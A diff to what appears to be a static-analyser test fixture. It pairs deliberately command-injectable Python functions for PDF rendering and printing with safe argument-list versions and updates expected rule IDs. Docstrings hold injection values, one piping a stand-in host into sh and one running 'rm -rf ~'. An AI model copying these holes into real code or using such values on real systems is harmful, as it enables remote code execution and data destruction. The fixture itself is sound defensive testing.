@@ -9,12 +9,12 @@ def render_pdf(html_path: str, pdf_path: str, page_size: str = "A4") -> None:
     """Vulnerable: ``page_size`` comes from the query string and is pasted into a shell command line;
     ``A4; curl evil.example | sh`` is a valid value to the shell."""
     command = f"{WKHTMLTOPDF} --page-size {page_size} {html_path} {pdf_path}"
-    subprocess.run(command, shell=True, check=True)  # expect: K110
+    subprocess.run(command, shell=True, check=True)  # expect: K702
 
 
 def render_pdf_safe(html_path: str, pdf_path: str, page_size: str = "A4") -> None:
     """Safe: an argument list and no shell; each value stays one argument whatever it contains."""
-    subprocess.run([WKHTMLTOPDF, "--page-size", page_size, html_path, pdf_path], check=True)  # ok: K110
+    subprocess.run([WKHTMLTOPDF, "--page-size", page_size, html_path, pdf_path], check=True)  # ok: K110, K702
 
 
 def renderer_version() -> str:
@@ -46,18 +46,18 @@ def _pages(pdfinfo_output: str) -> int:
 
 def print_invoice(pdf_path: str, printer: str) -> None:
     """Vulnerable: ``printer`` comes from the form; ``office; rm -rf ~`` is a printer name to a shell."""
-    os.system("lp -d " + printer + " " + pdf_path)  # expect: K111
+    os.system("lp -d " + printer + " " + pdf_path)  # expect: K702
 
 
 def print_invoice_safe(pdf_path: str, printer: str) -> None:
-    subprocess.run(["lp", "-d", printer, "--", pdf_path], check=True)  # ok: K111
+    subprocess.run(["lp", "-d", printer, "--", pdf_path], check=True)  # ok: K111, K702
 
 
 def printer_status(printer: str) -> str:
     """Vulnerable: same problem through ``os.popen``."""
-    with os.popen(f"lpstat -p {printer}") as pipe:  # expect: K111
+    with os.popen(f"lpstat -p {printer}") as pipe:  # expect: K702
         return pipe.read()
 
 
 def printer_status_safe(printer: str) -> str:
-    return subprocess.run(["lpstat", "-p", printer], capture_output=True, text=True).stdout  # ok: K111
+    return subprocess.run(["lpstat", "-p", printer], capture_output=True, text=True).stdout  # ok: K111, K702
